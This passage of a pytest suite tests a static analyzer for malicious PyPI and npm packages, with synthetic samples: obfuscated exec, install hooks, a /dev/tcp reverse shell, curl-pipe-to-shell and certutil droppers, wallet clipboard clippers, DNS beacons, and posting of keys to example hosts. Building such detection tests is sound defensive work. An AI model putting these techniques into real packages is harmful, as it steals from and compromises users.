"""Static evidence that proves intent convicts on its own (issue 13, item 7), and the
ordinary code that looks like it does not.

Each technique is scanned from small synthetic files (payloads only echo or print,
addresses are example or documentation ones) and then judged by the shipped rules:
the malicious forms must come out `malicious` on static evidence alone, the benign
look-alikes (modelled on real libraries) must raise none of the new kinds.
"""

from __future__ import annotations

import base64
import json
import unicodedata
import zlib
from collections.abc import Mapping
from dataclasses import replace

import pytest

from analyzer.detect.rules.cases import parse_cases
from analyzer.detect.rules.engine import assess
from analyzer.detect.rules.patterns import Problems
from analyzer.detect.rules.ruleset import default_rules
from analyzer.detect.static.literals import decode_layers
from analyzer.detect.static.scan import SignalKind, StaticSignal, scan_package
from analyzer.models import Ecosystem, Verdict

PYPI, NPM = Ecosystem.PYPI, Ecosystem.NPM
NEW_KINDS = {SignalKind.ENCODED_DESTINATION, SignalKind.CLIPBOARD_HIJACK, SignalKind.DROPPER,
             SignalKind.DNS_BEACON}  # fmt: skip


def scan(files: Mapping[str, str], ecosystem: Ecosystem = PYPI) -> list[StaticSignal]:
    return list(scan_package(((p, b.encode()) for p, b in files.items()), ecosystem))


def kinds(files: Mapping[str, str], ecosystem: Ecosystem = PYPI) -> set[SignalKind]:
    return {s.kind for s in scan(files, ecosystem)}


def verdict(files: Mapping[str, str], ecosystem: Ecosystem = PYPI) -> Verdict:
    """The shipped rules' verdict on the static signals alone (no phase ran)."""
    problems = Problems()
    [empty], _ = parse_cases({"positive": [{}]}, "case", problems, ecosystem)
    result = replace(empty.result, static_signals=tuple(scan(files, ecosystem)))
    return assess(result, default_rules()).verdict


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def npm(scripts: Mapping[str, str], **files: str) -> dict[str, str]:
    manifest = {"name": "tool", "version": "1.0.0", "scripts": dict(scripts),
                "repository": "github:acme/tool"}  # fmt: skip
    return {"package/package.json": json.dumps(manifest, indent=1),
            **{f"package/{k}": v for k, v in files.items()}}  # fmt: skip


CODES = [112, 114, 105, 110, 116, 40, 49, 41]  # print(1)
_SETUP_HOOK = """\
import base64, os
from setuptools import setup
from setuptools.command.install import install

def b64d(code):
    return base64.b64decode(code.encode()).decode()

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system(b64d('{payload}'))

setup(name='h', cmdclass={{'install': PostInstall}})
"""

# ---- 1. exec/eval/compile of code built from chr, ord, base64, zlib, marshal, [::-1]

EXEC_BUILT = {
    "chr generator into compile": (
        f"exec(compile(''.join(chr(c) for c in {CODES}), '<string>', 'exec'))\n"
    ),
    "map(chr) into eval": f"eval(''.join(map(chr, {CODES})))\n",
    "map(chr) through names": f"codes = {CODES}\nsource = ''.join(map(chr, codes))\nexec(source)\n",
    "ord shift": "s = 'qsjou)2*'\nexec(''.join(chr(ord(c) - 1) for c in s))\n",
    "reversed string": "exec(')1(tnirp'[::-1])\n",
    "zlib of base64": "import zlib, base64\nexec(zlib.decompress(base64.b64decode(BLOB)))\n",
    "marshal of a literal": "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))\n",
    "decoded by a helper": (
        "import base64\ndef d(x):\n    return base64.b64decode(x).decode()\n"
        f"exec(d('{b64('print(1)')}'))\n"
    ),
}


@pytest.mark.parametrize("body", EXEC_BUILT.values(), ids=EXEC_BUILT.keys())
def test_execution_of_built_code_at_module_level_is_malicious(body: str) -> None:
    files = {"pkg-1.0/pkg/__init__.py": body}
    assert SignalKind.EXEC_DECODED in kinds(files)
    assert verdict(files) is Verdict.MALICIOUS


def test_an_install_hook_running_a_decoded_command_is_malicious() -> None:
    files = {"h-1.0/setup.py": _SETUP_HOOK.format(payload=b64("echo installed"))}
    [found] = [s for s in scan(files) if s.kind is SignalKind.EXEC_DECODED]
    assert found.role.value == "install" and "b64d()" in found.detail
    assert verdict(files) is Verdict.MALICIOUS


def test_javascript_eval_of_char_codes_and_base64() -> None:
    body = "eval(String.fromCharCode(99,111,110,115,111,108,101));\nnew Function(atob(s))();\n"
    files = {"package/index.js": body}
    assert SignalKind.EXEC_DECODED in kinds(files, NPM)
    assert verdict(files, NPM) is Verdict.MALICIOUS


def test_downloaded_code_fed_to_a_python_child_is_remote_execution() -> None:
    body = (
        "import subprocess, sys, requests\n"
        "def update(url):\n    response = requests.get(url, timeout=3)\n"
        "    code = response.text.encode()\n"
        "    p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
        "    p.stdin.write(code)\n    p.stdin.close()\n"
    )
    files = {"tbl-1.0/tbl/__init__.py": body}
    assert SignalKind.EXEC_REMOTE in kinds(files)
    assert verdict(files) is Verdict.MALICIOUS


def test_a_local_script_fed_to_a_python_child_is_not() -> None:
    body = (
        "import json, subprocess, sys\nSCRIPT = 'import sys; print(sys.version)'\n"
        "out = subprocess.run([sys.executable, '-'], input=SCRIPT, text=True)\n"
        "p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
        "p.communicate(json.dumps(request.get_json()).encode())\n"
    )
    assert SignalKind.EXEC_REMOTE not in kinds({"tool-1.0/tool/probe.py": body})


EXEC_ORDINARY = {
    "Django-style compile of a template": (
        "def render(path, context):\n    with open(path) as f:\n        source = f.read()\n"
        "    code = compile(source, path, 'exec')\n    exec(code, context)\n"
    ),
    "regex compile": "import re\nWORD = re.compile(r'[a-z]+')\nmatch = WORD.match(text)\n",
    "pytest-style pyc cache": (
        "import marshal\ndef _read_pyc(fp):\n    co = marshal.load(fp)\n    return co\n"
        "co = _read_pyc(fp)\nexec(co, module.__dict__)\n"
    ),
    "zipimport-style pyc": (
        "import marshal\ncode = marshal.loads(data[16:])\nexec(code, mod.__dict__)\n"
    ),
    "exec of a string naming a method": (
        "def _make(meth, dic):\n"
        "    exec('''def %s(self): return self._callmethod(%r)''' % (meth, meth), dic)\n"
        "def _callmethod(self, name):\n    return self._conn.recv()\n"
    ),
}


@pytest.mark.parametrize("body", EXEC_ORDINARY.values(), ids=EXEC_ORDINARY.keys())
def test_ordinary_exec_and_compile_are_quiet(body: str) -> None:
    found = kinds({"pkg-1.0/pkg/loader.py": body})
    assert not found & {SignalKind.EXEC_DECODED, SignalKind.EXEC_REMOTE}, found


def test_a_build_command_naming_zlib_is_not_a_decoded_command() -> None:
    setup = (
        "import base64, os, subprocess\nfrom setuptools import setup\n"
        "flags = subprocess.check_output(['pkg-config', '--cflags', 'zlib', 'bz2'])\n"
        "subprocess.run(['tool', '--stdin'], input=bytes([0, 1]),\n"
        "               env={'TOKEN': base64.b64decode(os.environ['T'])})\nsetup()\n"
    )
    assert SignalKind.EXEC_DECODED not in kinds({"z-1.0/setup.py": setup})


# ---- 2. literals that decode to a drop box, or to code

URL_HOOK = "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKl"
URL_BOT = "https://api.telegram.org/bot123456:ABCdef/sendMessage"
ENCODED = {
    "base64 webhook": f"HOOK = base64.b64decode('{b64(URL_HOOK)}').decode()\n",
    "hex bot API": f"BOT = bytes.fromhex('{URL_BOT.encode().hex()}').decode()\n",
    "base64 raw IP": f"U = base64.b64decode('{b64('http://93.184.216.34:5000/post')}')\n",
    "reversed base64 paste site": f"P = '{b64('https://pastebin.com/raw/abcd')[::-1]}'[::-1]\n",
    "base64 of zlib of base64": (
        "T = '" + base64.b64encode(zlib.compress(b64(URL_BOT).encode())).decode() + "'\n"
    ),
    "JavaScript atob": f"const h = atob('{b64(URL_HOOK)}');\n",
    "a request to an address hidden in base64": (
        "import base64, requests\ndata = {'ak': KEY, 'secret': SECRET}\n"
        f"requests.post(url=base64.b64decode('{b64('https://api.sdk-requests.example/x')}')"
        ".decode('utf-8'), json=data)\n"
    ),
    "JavaScript fetch of an atob address": (
        f"const r = await fetch(atob('{b64('https://collect.example/c')}'), {{method: 'POST'}});\n"
    ),
}


@pytest.mark.parametrize("body", ENCODED.values(), ids=ENCODED.keys())
def test_literals_decoding_to_a_drop_box_are_malicious(body: str) -> None:
    path = "package/lib/t.js" if "const" in body else "pkg-1.0/pkg/t.py"
    ecosystem = NPM if path.startswith("package/") else PYPI
    files = {path: body}
    assert SignalKind.ENCODED_DESTINATION in kinds(files, ecosystem)
    assert verdict(files, ecosystem) is Verdict.MALICIOUS


def test_decoded_code_is_scanned_like_source() -> None:
    shell = "import os\nos.system('bash -i >& /dev/tcp/93.184.216.34/4444 0>&1')"
    found = scan({"pkg-1.0/pkg/t.py": f"STAGE = '{b64(shell)}'\n"})
    shell_signal = next(s for s in found if s.kind is SignalKind.REVERSE_SHELL)
    assert "in the" in shell_signal.detail and shell_signal.excerpt.startswith("[decoded]")
    assert SignalKind.ENCODED_PAYLOAD in {s.kind for s in found}


def test_decode_layers_reads_nested_encodings() -> None:
    layered = base64.b64encode(zlib.compress(b64("hello world").encode())).decode()
    assert decode_layers(layered) == ("hello world", "base64 + zlib + base64")
    assert decode_layers("ThisIsJustAnIdentifier42") is None
    assert decode_layers("a94a8fe5ccb19ba61c4c0873d391e987982fbbd3") is None  # a sha1


ENCODED_ORDINARY = {
    "a test suite decoding the URL it checks": (
        "pkg-1.0/tests/test_codec.py",
        f"def test_roundtrip():\n    assert decode('{b64(URL_HOOK)}') == '{URL_HOOK}'\n",
    ),
    "an ordinary address, encoded": (
        "pkg-1.0/pkg/config.py",
        f"DEFAULT = base64.b64decode('{b64('https://api.example.com/v1/')}').decode()\n",
    ),
    "basic auth header": ("pkg-1.0/pkg/auth.py", f"HEADER = 'Basic {b64('user:secret1')}'\n"),
    "a commit hash and a UUID": (
        "pkg-1.0/pkg/_version.py",
        "REV = 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3'\n"
        "ID = '3f2b8c1e-4d5a-4e6f-9a7b-8c9d0e1f2a3b'\nCLASS = 'HTTPAdapter2Config'\n",
    ),
}


def test_a_request_to_the_packages_own_host_hidden_in_base64_is_not_a_hidden_destination(
) -> None:
    files = {
        "pkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: pkg\nHome-page: https://pkg.example.org\n",
        "pkg-1.0/pkg/client.py": "import base64, requests\nrequests.get(base64.b64decode("
                                 f"'{b64('https://api.pkg.example.org/v1/ping')}').decode())\n",
    }
    assert SignalKind.ENCODED_DESTINATION not in kinds(files)


@pytest.mark.parametrize(("path", "body"), ENCODED_ORDINARY.values(), ids=ENCODED_ORDINARY.keys())
def test_ordinary_encoded_strings_are_quiet(path: str, body: str) -> None:
    assert not kinds({path: body}) & NEW_KINDS


# ---- 3. clipboard clippers

BTC = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
ETH = "0x52E7A3c1Bd0aB8e1F4D0a2b9c6F1e8d3A7b5C9e2"
CLIPPERS = {
    "pyperclip": (
        "pkg-1.0/pkg/_watch.py",
        "import pyperclip, re, time\nwhile True:\n    data = pyperclip.paste()\n"
        "    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', data):\n"
        f"        pyperclip.copy('{BTC}')\n    time.sleep(1)\n",
    ),
    "tkinter": (
        "pkg-1.0/pkg/_tk.py",
        "import tkinter, re\nroot = tkinter.Tk()\nclip = root.clipboard_get()\n"
        "if re.fullmatch(r'0x[a-fA-F0-9]{40}', clip):\n    root.clipboard_clear()\n"
        f"    root.clipboard_append('{ETH}')\n",
    ),
    "win32clipboard, no pattern": (
        "pkg-1.0/pkg/_w.py",
        "import win32clipboard\nwin32clipboard.OpenClipboard()\n"
        "data = win32clipboard.GetClipboardData()\n"
        f"if data.startswith('0x'):\n    win32clipboard.SetClipboardText('{ETH}')\n",
    ),
    "ctypes": (
        "pkg-1.0/pkg/_c.py",
        "import ctypes\nu = ctypes.windll.user32\nu.OpenClipboard(0)\nh = u.GetClipboardData(13)\n"
        f"WALLETS = {{'btc': '{BTC}'}}\nPATTERN = r'[13][a-km-zA-HJ-NP-Z1-9]{{25,34}}'\n",
    ),
    "xclip in a subprocess": (
        "pkg-1.0/pkg/_x.py",
        "import subprocess, re\n"
        "clip = subprocess.run(['xclip', '-selection', 'clipboard', '-o'], capture_output=True)\n"
        f"if re.search(r'0x[0-9a-fA-F]{{40}}', clip.stdout.decode()):\n"
        f"    subprocess.run(['xclip', '-selection', 'clipboard'], input=b'{ETH}')\n",
    ),
    "navigator.clipboard": (
        "package/index.js",
        "setInterval(async () => {\n  const t = await navigator.clipboard.readText();\n"
        f"  if (/^0x[a-fA-F0-9]{{40}}$/.test(t)) await navigator.clipboard.writeText('{ETH}');\n"
        "}, 500);\n",
    ),
    "an obfuscated page script: the swap without a clipboard name in sight": (
        "package/lib/page.js",
        "var _0x1=['value','replace'];function check(){var v=inputElement[_0x1[0]];"
        f"v=v[_0x1[1]](/^(0x)[a-fA-F0-9]{{40}}$/,'{ETH}');inputElement[_0x1[0]]=v;}}\n",
    ),
    "a re.sub swap, carried in an install hook's string": (
        "x-1.0/setup.py",
        "import os\nJS = (\"text = re.sub(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', "
        f"'{BTC}', text)\")\nopen(os.path.expanduser('~/x.py'), 'w').write(JS)\n",
    ),
}


@pytest.mark.parametrize(("path", "body"), CLIPPERS.values(), ids=CLIPPERS.keys())
def test_clippers_are_malicious(path: str, body: str) -> None:
    ecosystem = NPM if path.startswith("package/") else PYPI
    assert SignalKind.CLIPBOARD_HIJACK in kinds({path: body}, ecosystem)
    assert verdict({path: body}, ecosystem) is Verdict.MALICIOUS


CLIPBOARD_ORDINARY = {
    "an address normaliser: a pattern replaced by its match or a placeholder": (
        "eth_tools/checksum.py",
        "import re\nLOWER = re.compile(r'0x[a-fA-F0-9]{40}')\n"
        "def norm(t):\n    return LOWER.sub(lambda m: m.group().lower(), t)\n"
        "def blank(t):\n    return re.sub(r'0x[a-fA-F0-9]{40}', "
        "'0x0000000000000000000000000000000000000000', t)\n",
    ),
    "a wallet library: address regexes and contract addresses, no clipboard": (
        "eth_tools/address.py",
        "import re\n_HEX_ADDRESS = re.compile(r'^(0x)?[0-9a-fA-F]{40}$')\n"
        "_B58 = re.compile(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$')\n"
        "USDT = '0xdAC17F958D2ee523a2206206994597C13D831ec7'\n",
    ),
    "a clipboard library: no wallets": (
        "pyperclip/__init__.py",
        "def paste():\n    return _run(['xclip', '-selection', 'clipboard', '-o'])\n"
        "def copy(text):\n    _run(['xclip', '-selection', 'clipboard'], text)\n",
    ),
    "a wallet GUI's copy-address button": (
        "wallet_gui/widgets.py",
        "import re, pyperclip\nVALID = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
        "def on_copy(address):\n    if VALID.match(address):\n        pyperclip.copy(address)\n",
    ),
    "a burn address placeholder": (
        "wallet_gui/defaults.py",
        "import pyperclip\nBURN = '0x000000000000000000000000000000000000dEaD'\n"
        "pyperclip.copy(BURN)\nDATA = pyperclip.paste()\n",
    ),
}


@pytest.mark.parametrize(("path", "body"), CLIPBOARD_ORDINARY.values(),
                         ids=CLIPBOARD_ORDINARY.keys())
def test_ordinary_clipboard_and_wallet_code_is_quiet(path: str, body: str) -> None:
    assert SignalKind.CLIPBOARD_HIJACK not in kinds({path: body})


# ---- 4. shell strings and code that download an executable and start it

DROPPERS = {
    "curl -o then start": (
        "pkg-1.0/pkg/__init__.py",
        "import os\nos.system('curl -s -o %TEMP%\\\\u.exe https://x.example/u.exe"
        " && start %TEMP%\\\\u.exe')\n",
    ),
    "certutil then start": (
        "pkg-1.0/pkg/win.py",
        "import subprocess\nsubprocess.call('certutil -urlcache -split -f "
        "https://x.example/a.exe %APPDATA%\\\\a.exe & start %APPDATA%\\\\a.exe', shell=True)\n",
    ),
    "bitsadmin then run": (
        "pkg-1.0/pkg/win.py",
        "import os\nos.system('bitsadmin /transfer j https://x.example/b.exe C:\\\\b.exe"
        " && C:\\\\b.exe')\n",
    ),
    "Invoke-WebRequest then Start-Process": (
        "pkg-1.0/pkg/win.py",
        "import subprocess\nsubprocess.Popen(['powershell', '-c', 'Invoke-WebRequest "
        "https://x.example/c.exe -OutFile $env:TEMP\\\\c.exe;"
        " Start-Process $env:TEMP\\\\c.exe'])\n",
    ),
    "requests, a .exe and os.startfile": (
        "pkg-1.0/pkg/update.py",
        "import os, requests\nr = requests.get('https://x.example/u.exe')\n"
        "with open('u.exe', 'wb') as f:\n    f.write(r.content)\nos.startfile('u.exe')\n",
    ),
    "a binary from a raw IP, written and run": (
        "pkg-1.0/pkg/net.py",
        "import os, requests\nfor name in ('a', 'b'):\n"
        "    req = requests.get(f'http://93.184.216.34/{name}')\n"
        "    with open(name, 'wb') as f:\n        f.write(req.content)\n"
        "    os.system(f'chmod +x {name}')\n    os.system(f'./{name} &')\n",
    ),
    "wget -O, then a shell loop runs it": (
        "pkg-1.0/pkg/proc.py",
        "import subprocess\nfile = 'w'\n"
        "subprocess.Popen(f'cd /tmp && wget -q https://x.example/m -O {file} && chmod +x {file}')\n"
        "subprocess.Popen(['bash', '-c', f'while true; do /tmp/{file} -o pool; sleep 5; done'])\n",
    ),
    "curl piped to sh from code": (
        "pkg-1.0/pkg/boot.py",
        "import os\nos.system('curl -fsSL http://93.184.216.34/i.sh | sh')\n",
    ),
}


@pytest.mark.parametrize(("path", "body"), DROPPERS.values(), ids=DROPPERS.keys())
def test_droppers_are_malicious(path: str, body: str) -> None:
    assert SignalKind.DROPPER in kinds({path: body})
    assert verdict({path: body}) is Verdict.MALICIOUS


def test_an_npm_install_script_piping_a_download_into_a_shell() -> None:
    files = npm({"postinstall": "curl -s https://x.example/i.sh | bash"})
    assert SignalKind.DROPPER in kinds(files, NPM)
    assert verdict(files, NPM) is Verdict.MALICIOUS


OWN_RELEASE = """\
const https = require('https'), fs = require('fs');
const { execFileSync } = require('child_process');
const { version } = require('./package.json');
const exe = process.platform === 'win32' ? 'tool.exe' : 'tool';
const url = `https://github.com/acme/tool/releases/download/v${version}/${exe}`;
https.get(url, (res) => {
  res.pipe(fs.createWriteStream(exe)).on('finish', () => {
    fs.chmodSync(exe, 0o755);
    execFileSync('./' + exe, ['--version']);
  });
});
"""
DROPPER_ORDINARY = {
    "a CLI fetching its own release binary on install": (
        npm({"postinstall": "node install.js"}, **{"install.js": OWN_RELEASE}), NPM),
    "the same with the repository written out": (
        npm({"postinstall": "node install.js"},
            **{"install.js": OWN_RELEASE.replace("${version}", "1.0.0").replace(
                "const { version } = require('./package.json');\n", "")}), NPM),

    "curl | sh in the documentation": (
        {"pkg-1.0/docs/install.py": "CMD = 'curl -fsSL https://x.example/i.sh | sh'\n",
         "pkg-1.0/README.md": "curl -o x.exe https://x.example/x.exe && start x.exe\n"}, PYPI),
    "a command catalogue module that runs nothing": (
        {"pkg-1.0/pkg/cheats.py": "COMMANDS = {\n" + "".join(
            f"    'tool{i}': 'curl -fsSL https://x.example/{i}.sh | sh',\n" for i in range(8)
        ) + "}\n"}, PYPI),
    "a help text, with no process started": (
        {"pkg-1.0/pkg/cli.py": "HELP = 'run: curl -o t https://x.example/t && ./t'\n"}, PYPI),
    "an official toolchain installer": (
        {"pkg-1.0/pkg/rust.py":
            "import subprocess\nsubprocess.run('curl -sSf https://sh.rustup.rs | sh -s -- -y',"
            " shell=True)\n"}, PYPI),
    "a downloaded image opened after download": (
        {"pkg-1.0/pkg/show.py":
            "import os\nos.system('curl -s -o logo.png https://x.example/logo.png"
            " && start logo.png')\n"},
        PYPI),
    "a downloaded image named through variables": (
        {"pkg-1.0/pkg/thanks.py":
            "import os, tempfile\nimage_url = 'https://x.example/public/image.jpg'\n"
            "output_path = os.path.join(tempfile.gettempdir(), 'thanks.png')\n"
            "os.system(f'curl -s -L \"{image_url}\" -o \"{output_path}\"')\n"
            "os.system(f'cmd /c start \"\" \"{output_path}\"')\n"}, PYPI),
    "a Linux binary fetched and chmodded by a CLI": (
        {"pkg-1.0/pkg/fetch.py":
            "import os, subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://x.example/tool', '/tmp/tool')\n"
            "os.chmod('/tmp/tool', 0o755)\nsubprocess.run(['/tmp/tool', '--version'])\n"}, PYPI),
}


def test_a_release_binary_of_someone_elses_repository_is_no_exemption() -> None:
    script = OWN_RELEASE.replace("acme/tool", "other/thing").replace(
        "const { version } = require('./package.json');\n", "")
    files = npm({"postinstall": "node install.js"}, **{"install.js": script})
    assert SignalKind.DROPPER in kinds(files, NPM)


@pytest.mark.parametrize(("files", "ecosystem"), DROPPER_ORDINARY.values(),
                         ids=DROPPER_ORDINARY.keys())
def test_ordinary_downloads_are_no_droppers(files: dict[str, str], ecosystem: Ecosystem) -> None:
    assert SignalKind.DROPPER not in kinds(files, ecosystem)


# ---- 5. DNS names carrying the host's identity or the package's name

BEACONS = {
    "f-string into gethostbyname": (
        "pkg-1.0/pkg/_ping.py",
        "import socket\nsocket.gethostbyname(f'{socket.gethostname()}.pkg.x.oast.fun')\n",
    ),
    "concatenated user and host": (
        "pkg-1.0/pkg/_ping.py",
        "import getpass, socket\nsocket.getaddrinfo(getpass.getuser() + '.' + "
        "socket.gethostname() + '.d.example.net', 80)\n",
    ),
    "a name traced through assignments": (
        "pkg-1.0/pkg/_ping.py",
        "import os, socket\nwho = os.getlogin()\nname = who + '.' + DOMAIN\n"
        "DOMAIN = 'c2.example.net'\nsocket.gethostbyname(name)\n",
    ),
    "nslookup in a shell string": (
        "pkg-1.0/setup.py",
        "import os\nfrom setuptools import setup\n"
        "os.system('nslookup $(whoami).$(hostname).x.example.net')\nsetup()\n",
    ),
    "JavaScript dns.lookup": (
        "package/lib/t.js",
        "const dns = require('dns'), os = require('os');\n"
        "dns.lookup(`${os.hostname()}.${os.userInfo().username}.x.example.net`, () => {});\n",
    ),
    "the package's name as a label, at install": (
        "beaconpkg-1.0/setup.py",
        "import socket\nfrom setuptools import setup\n"
        "socket.gethostbyname('beaconpkg.abcd1234.collector.example.net')\nsetup()\n",
    ),
}


@pytest.mark.parametrize(("path", "body"), BEACONS.values(), ids=BEACONS.keys())
def test_dns_beacons_are_malicious(path: str, body: str) -> None:
    ecosystem = NPM if path.startswith("package/") else PYPI
    assert SignalKind.DNS_BEACON in kinds({path: body}, ecosystem)
    assert verdict({path: body}, ecosystem) is Verdict.MALICIOUS


def test_an_npm_preinstall_nslookup_beacon() -> None:
    files = npm({"preinstall": "nslookup $(hostname).$(whoami).x.example.net"})
    assert SignalKind.DNS_BEACON in kinds(files, NPM)
    assert verdict(files, NPM) is Verdict.MALICIOUS


DNS_ORDINARY = {
    "resolving the host's own name": "ADDR = socket.gethostbyname(socket.gethostname())\n",
    "mDNS and cluster names": (
        "a = socket.gethostbyname(socket.gethostname() + '.local')\n"
        "b = f'{socket.gethostname()}.web.default.svc.cluster.local'\n"
    ),
    "a file name from the user name": "CACHE = getpass.getuser() + '.cache.json'\n",
    "the package's own domain": "API = f'{socket.gethostname()}.agents.owntool.io'\n",
    "a plain lookup of a service": (
        "socket.getaddrinfo('pypi.org', 443)\nUSER = getpass.getuser()\n"
    ),
    "a name with the package's name under its own domain": (
        "socket.gethostbyname('owntool.owntool.io')\n"
    ),
}


@pytest.mark.parametrize("body", DNS_ORDINARY.values(), ids=DNS_ORDINARY.keys())
def test_ordinary_dns_and_identity_use_is_quiet(body: str) -> None:
    files = {
        "owntool-1.0/PKG-INFO": "Name: owntool\nHome-page: https://owntool.io\n\n",
        "owntool-1.0/owntool/__init__.py": "import getpass, socket\n" + body,
    }
    assert SignalKind.DNS_BEACON not in kinds(files)


# ---- look-alike letters: Python reads 𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀 as subprocess


def _math_italic(word: str) -> str:
    """`word` in mathematical sans-serif bold italic letters (lower case only)."""
    return "".join(
        unicodedata.lookup(f"MATHEMATICAL SANS-SERIF BOLD ITALIC SMALL {c.upper()}")
        if c.islower() else c
        for c in word
    )


def test_identifiers_in_lookalike_letters_are_read_as_python_reads_them() -> None:
    body = (
        f"import requests, subprocess, os\n"
        f"{_math_italic('url')} = 'https://x.example/cdn/file'\n"
        f"{_math_italic('response')} = {_math_italic('requests')}.get({_math_italic('url')})\n"
        f"with open('windows.exe', 'wb') as f:\n    f.write({_math_italic('response')}.content)\n"
        f"{_math_italic('subprocess')}.call(['windows.exe'])\n"
    )
    found = scan({"colr-0.2/colr/__init__.py": body})
    assert {SignalKind.OBFUSCATION, SignalKind.DROPPER} <= {s.kind for s in found}
    [spelt] = [s for s in found if "look-alike" in s.detail]
    assert spelt.line == 2


def test_lookalike_letters_in_strings_and_math_symbols_are_not_obfuscation() -> None:
    styles = f"BOLD = {{'a': '{_math_italic('a')}', 'word': '{_math_italic('bold')}'}}\n"
    physics = "\N{MATHEMATICAL ITALIC SMALL X} = 2.0\n\N{MATHEMATICAL ITALIC SMALL THETA} = 0.5\n"
    files = {"fancytext-1.0/fancytext/styles.py": styles, "sim-1.0/sim/model.py": physics}
    assert SignalKind.OBFUSCATION not in kinds(files)


# Found in a random draw of ordinary releases: a CLI offering to install another vendor's
# agent with its official one-liner, and a docstring telling the user how to install.
VENDOR_INSTALLER = '''import subprocess

INSTALLERS = {
    "unix": "curl -fsSL https://agent-vendor.example/install.sh | bash",
    "windows": "irm https://agent-vendor.example/install.ps1 | iex",
}


def install_agent(platform):
    subprocess.run(INSTALLERS[platform], shell=True, check=True)
'''
DOCSTRING_INSTALL = '''"""Preflight checks.

Install the agent first:

    curl -fsSL https://agent-vendor.example/preflight.sh | sh
"""
import subprocess


def check():
    return subprocess.run(["uname", "-a"], capture_output=True).returncode == 0
'''


def test_a_module_that_installs_a_vendor_tool_is_not_a_dropper() -> None:
    assert SignalKind.DROPPER not in kinds({"pkg/agents/setup.py": VENDOR_INSTALLER})
    assert verdict({"pkg/agents/setup.py": VENDOR_INSTALLER}) is not Verdict.MALICIOUS


def test_the_same_one_liner_at_install_or_from_a_raw_ip_is() -> None:
    hook = "import os\nos.system('curl -fsSL https://agent-vendor.example/i.sh | sh')\n" \
           "from setuptools import setup\nsetup(name='x')\n"
    assert SignalKind.DROPPER in kinds({"x-1.0/setup.py": hook})
    raw_ip = VENDOR_INSTALLER.replace("agent-vendor.example", "45.77.12.9")
    assert SignalKind.DROPPER in kinds({"pkg/agents/setup.py": raw_ip})


def test_a_download_and_run_line_in_a_docstring_is_prose() -> None:
    assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": DOCSTRING_INSTALL})
    wrapped = DOCSTRING_INSTALL.replace("https://", "\\\n        https://", 1)
    assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": wrapped})


def test_a_download_and_run_line_counts_where_it_reaches_a_process_start() -> None:
    # Stored in a string and handed to a shell: run. Only stored or returned: an
    # install hint, data.
    script = DOCSTRING_INSTALL.replace('"""Preflight', 'SCRIPT = """Preflight', 1)
    run_later = script + "\n\ndef go():\n    subprocess.run(['sh', '-c', SCRIPT])\n"
    looped = ('import os\nSTEPS = ["curl -fsSL https://x.example/a.sh | sh"]\n'
              "for step in STEPS:\n    os.system(step)\n")
    in_call = ('import subprocess\nsubprocess.Popen(\n    "wget -qO- https://x.example/a | sh",\n'
               "    shell=True)\n")
    hint = ('import subprocess\n\ndef install_commands(url):\n'
            '    one_liner = f"curl -fsSL {url}.sh | bash"\n    return {"linux": one_liner}\n')
    for runs in (run_later, looped, in_call):
        assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/preflight.py": runs}), runs
    for stored in (script, hint):
        assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": stored}), stored


def test_prose_about_a_host_name_is_no_dns_beacon() -> None:
    """An attribute docstring that starts with 'Host name', beside code that uses the
    host's name and an attribute chain ending in a TLD-like word."""
    code = ('import socket\n\n\nclass State:\n    node: str | None = None\n'
            '    "Host name of the runner that has the job."\n\n'
            '    def claim(self):\n        name = socket.gethostname()\n'
            '        return self.runner.link.send(name)\n')
    assert SignalKind.DNS_BEACON not in kinds({"pkg/runner.py": code})
    beacon = 'import os\nos.system("nslookup $(hostname).c2-collect.xyz")\n'
    assert SignalKind.DNS_BEACON in kinds({"pkg/__init__.py": beacon})


def test_command_lines_in_a_help_index_or_a_grammar_are_data() -> None:
    """JavaScript that starts no process: a search index of help pages and a syntax
    highlighter's PowerShell grammar quote install one-liners; a script that runs them
    is another matter."""
    index = ('window.HELP = [{"t": "Install", "s": "On Linux: curl -LsSf '
             'https://astral.sh/uv/install.sh | sh; on Windows: powershell -ExecutionPolicy '
             'ByPass -c \\"irm https://astral.sh/uv/install.ps1 | iex\\""}];\n')
    found = kinds({"pkg/help/search-index.js": index}, NPM)
    assert not {SignalKind.DOWNLOAD_EXEC, SignalKind.POWERSHELL_SUSPICIOUS} & found
    runs = 'const cp = require("child_process");\n' + index.replace(
        "window.HELP = ", "cp.execSync(JSON.stringify(") + "\n"
    assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/run.js": runs}, NPM)


# ---- a library function that sends away what its caller holds

CALLER_EXFIL = {
    "a key posted in a set literal": (
        "import requests\n\ndef perm(private_key):\n"
        "    data = [{'key', private_key}]\n"
        "    requests.post('https://x.mockapi.example/tron', data)\n"
    ),
    "a mnemonic posted from a thread, to an address made from a constant": (
        "import base64, threading, requests\nAPI = 'aHR0cHM6Ly9leGFtcGxlLm9yZy9s'\n\n"
        "def log_balances(mnemonic_phrase):\n    def _log():\n"
        "        url = base64.b64decode(API).decode()\n"
        "        requests.post(url, json={'m': mnemonic_phrase})\n"
        "    threading.Thread(target=_log).start()\n"
    ),
    "the caller's source read off the stack and sent through a helper": (
        "import inspect, json, urllib.request\n\ndef _post(url, data):\n"
        "    req = urllib.request.Request(url, json.dumps(data).encode())\n"
        "    return urllib.request.urlopen(req)\n\n"
        "def register(node):\n    for frame in inspect.stack():\n"
        "        with open(frame.filename) as f:\n"
